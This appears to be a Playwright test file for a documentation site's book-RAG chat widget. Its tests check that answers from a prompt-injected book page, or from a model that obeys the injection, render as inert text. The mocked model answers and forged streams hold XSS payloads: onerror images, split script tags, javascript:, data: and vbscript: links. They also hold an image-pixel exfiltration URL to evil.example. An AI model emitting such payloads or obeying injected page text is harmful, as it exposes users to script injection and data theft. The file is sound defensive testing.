/** Untrusted answers: a poisoned page of the book (and a model that obeys its injection) reach
 * the panel as text only: no script runs, nothing loads from elsewhere, no script URL exists.
 * Relative links of quoted book text open the right page of the site. */
import type {Page} from '@playwright/test';
import {env, expect, test, useLlmServer} from './fixtures';

const POISONED_QUESTION = 'What does teleoperation latency above 200 ms do to the operator?';

/** Every request to a host other than the site and the API is recorded and refused. */
async function guardOffSite(page: Page): Promise<string[]> {
  const offSite: string[] = [];
  const allowed = new Set([new URL(env.site).host, new URL(env.api).host, new URL(env.llmApi).host]);
  await page.route(
    (url) => !allowed.has(url.host),
    (route) => {
      offSite.push(route.request().url());
      return route.abort('blockedbyclient');
    },
  );
  return offSite;
}

async function expectNothingLive(page: Page, offSite: string[]) {
  const panel = page.getByTestId('bookrag-panel');
  expect(await page.evaluate(() => (window as unknown as {__bookragPwned?: unknown}).__bookragPwned), 'no injected code ran').toBeUndefined();
  expect(offSite, 'no request left for another host').toEqual([]);
  await expect(panel.locator('script, iframe, object, embed, video, audio, form[action], [srcdoc]')).toHaveCount(0);
  const hrefs = await panel.locator('a[href]').evaluateAll((links) => links.map((a) => a.getAttribute('href') ?? ''));
  for (const href of hrefs) expect(href).not.toMatch(/^\s*(javascript|data|vbscript):/i);
  const handlers = await panel.locator('*').evaluateAll((elements) =>
    elements.flatMap((e) => [...e.attributes].filter((a) => /^on/i.test(a.name)).map((a) => `${e.tagName}.${a.name}`)),
  );
  expect(handlers).toEqual([]);
  const images = await panel.locator('img').evaluateAll((imgs) => imgs.map((i) => (i as HTMLImageElement).src));
  for (const src of images) expect(new URL(src).host).toBe(new URL(env.site).host);
  const blank = await panel.locator('a[target=_blank]').evaluateAll((links) => links.map((a) => a.getAttribute('rel')));
  for (const rel of blank) expect(rel).toContain('noopener');
  for (const rel of blank) expect(rel).toContain('noreferrer');
}

test('a poisoned page reaches the panel as text: no script, no off-site load, no script link', async ({page, chat}) => {
  const offSite = await guardOffSite(page);
  await page.goto(`${env.site}/docs/intro`);
  await chat.open();
  const answer = await chat.askAndWait(POISONED_QUESTION);
  await expect(answer).toHaveAttribute('data-status', 'done');
  await expect(answer.getByTestId('bookrag-answer-text')).toContainText('Teleoperation latency above 200 ms');
  const source = answer.getByTestId('bookrag-source').first();
  await expect(source).toContainText('Teleoperation');
  await expect(source.locator('*'), 'the title (which held HTML) is plain text').toHaveCount(0);
  await expectNothingLive(page, offSite);
  await page.waitForTimeout(500); // give any deferred handler a chance to fire
  expect(await page.evaluate(() => (window as unknown as {__bookragPwned?: unknown}).__bookragPwned)).toBeUndefined();
});

test('a model that obeys the injection still cannot put anything live in the panel', async ({page, chat}) => {
  const offSite = await guardOffSite(page);
  await useLlmServer(page, {
    interval: 5,
    answer:
      'Latency makes the operator overshoot [1]. ![status](https://evil.example/c.gif?q=CANARY-7f3a9c) ' +
      '<img src=x onerror="window.__bookragPwned=9"> <scr<script>ipt>window.__bookragPwned=10</scr</script>ipt> ' +
      '[console](javascript:window.__bookragPwned=11) [data](data:text/html,<script>window.__bookragPwned=12</script>) ' +
      '<a href="vbscript:msgbox(1)">vb</a> [ref]: javascript:window.__bookragPwned=13 https://evil.example/bare [1]',
  });
  await page.goto(`${env.site}/docs/intro`);
  await chat.open();
  const answer = await chat.askAndWait(POISONED_QUESTION);
  await expect(answer).toHaveAttribute('data-status', 'done');
  await expect(answer.getByTestId('bookrag-answer-text')).toContainText('overshoot');
  await expectNothingLive(page, offSite);
});

test('even a forged stream (no server-side filtering at all) renders inert in the panel', async ({page, chat}) => {
  // The widget's own defence, whatever the server does: this response is forged in the browser.
  const offSite = await guardOffSite(page);
  const answer = [
    'Raw <img src=x onerror="window.__bookragPwned=20"> and <script>window.__bookragPwned=21</script> [1]',
    '<scr<script>ipt>window.__bookragPwned=22</scr</script>ipt> <iframe src="https://evil.example/f"></iframe>',
    '![pixel](https://evil.example/p.gif) [x](javascript:window.__bookragPwned=23) [y](data:text/html,<script>alert(1)</script>) [2]',
  ].join('\n\n');
  const closing = {
    sources: [
      {n: 1, title: '<img src=x onerror="window.__bookragPwned=24">', heading: '<script>window.__bookragPwned=25</script>', url: 'javascript:window.__bookragPwned=26', file_path: 'x.md', chunk_id: 'a', score: 1},
      {n: 2, title: 'Elsewhere', heading: 'Off site', url: 'https://evil.example/page#a', file_path: 'y.md', chunk_id: 'b', score: 1},
    ],
    session_id: '00000000-0000-4000-8000-000000000000',
    message_id: 1,
    refused: false,
    extractive: true,
    degraded: false,
  };
  const body = [{answer}, closing].map((chunk) => `event: data\ndata: ${JSON.stringify(chunk)}\n\n`).join('') + 'event: end\n\n';
  await page.route(`${env.api}/chat/stream`, (route) =>
    route.fulfill({status: 200, headers: {'Content-Type': 'text/event-stream', 'Access-Control-Allow-Origin': env.site}, body}),
  );
  await page.goto(`${env.site}/docs/intro`);
  await chat.open();
  const shown = await chat.askAndWait('anything');
  await expect(shown).toHaveAttribute('data-status', 'done');
  await expectNothingLive(page, offSite);
  await expect(shown.getByTestId('bookrag-source').first()).toHaveText('<img src=x onerror="window.__bookragPwned=24"> › <script>window.__bookragPwned=25</script>');
  await expect(shown.locator('[data-testid=bookrag-source] [href^="javascript"], [data-testid=bookrag-citation][href^="javascript"]')).toHaveCount(0);
  // A source URL is the book's by contract: its path is opened in this site, whatever its host.
  await expect(shown.getByTestId('bookrag-source').nth(1)).toHaveAttribute('href', '/page#a');
});

test('relative links of quoted book text open the right page and section of the site', async ({page, chat}) => {
  await page.goto(`${env.site}/docs/intro`);
  await chat.open();
  const answer = await chat.askAndWait('What is the crossreference trail of this handbook?');
  const link = answer.getByTestId('bookrag-answer-text').getByRole('link', {name: 'the launch file lesson'});
  await expect(link).toHaveAttribute('href', '/docs/ros2/ros2-launch-and-parameters#launch-files');
  await expect(answer.getByTestId('bookrag-answer-text').getByRole('link', {name: 'the services lesson'})).toHaveAttribute('href', '/docs/ros2/ros2-services-and-actions');
  await expect(answer.getByTestId('bookrag-answer-text').getByRole('link', {name: 'handbook introduction'})).toHaveAttribute('href', '/docs/intro#how-the-handbook-is-organised');
  await page.evaluate(() => ((window as unknown as {__noReload: number}).__noReload = 1));
  await link.click();
  await page.waitForURL(/ros2-launch-and-parameters#launch-files$/);
  expect(await page.evaluate(() => (window as unknown as {__noReload?: number}).__noReload)).toBe(1);
  await expect(page.locator('[id="launch-files"]')).toBeInViewport();
});
